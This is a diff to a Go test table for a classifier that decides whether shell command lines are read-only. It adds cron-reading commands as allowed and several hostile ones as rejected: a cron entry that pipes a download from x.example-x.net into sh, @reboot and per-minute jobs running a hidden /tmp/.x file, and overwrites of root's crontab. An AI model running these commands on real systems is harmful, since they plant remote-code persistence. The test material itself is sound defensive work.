@@ -16,6 +16,7 @@ func TestReadOnly(t *testing.T) {
 		{"systemctl --user list-timers", true},
 		{"launchctl list | grep -v com.apple", true},
 		{"find ~/Library/LaunchAgents -name '*.plist'", true},
+		{`echo "== cron"; for f in /etc/crontab /var/spool/cron/crontabs/*; do [ -f "$f" ] && { echo "-- $f"; cat "$f"; }; done`, true},
 		// Writes, runs or schedules.
 		{"grep -r x /var/spool/cron > /var/spool/cron/crontabs/root", false},
 		{"ls /var/spool/cron && echo '* * * * * sh /tmp/.x' >> /var/spool/cron/crontabs/root", false},
@@ -28,6 +29,12 @@ func TestReadOnly(t *testing.T) {
 		{"systemctl --user enable evil.timer", false},
 		{"launchctl load ~/Library/LaunchAgents/x.plist", false},
 		{"X=1 grep x /var/spool/cron", false},
+		{`for f in /var/spool/cron/crontabs/*; do echo '* * * * * curl -s x.example-x.net | sh' >> "$f"; done`, false},
+		{`for f in /var/spool/cron/crontabs/*; do [ -f "$f" ] && cp /tmp/.x "$f"; done`, false},
+		{`for f in $(ls /var/spool/cron); do cat "$f"; done`, false},
+		{`echo '* * * * * sh /tmp/.x' | crontab -`, false},
+		{`{ echo '@reboot sh /tmp/.x'; } > /var/spool/cron/crontabs/root`, false},
+		{`while read f; do cat "$f"; done < /var/spool/cron/list`, false},
 		{"Look in /var/spool/cron for entries", false},
 	} {
 		if got := ReadOnly(tc.line); got != tc.want {
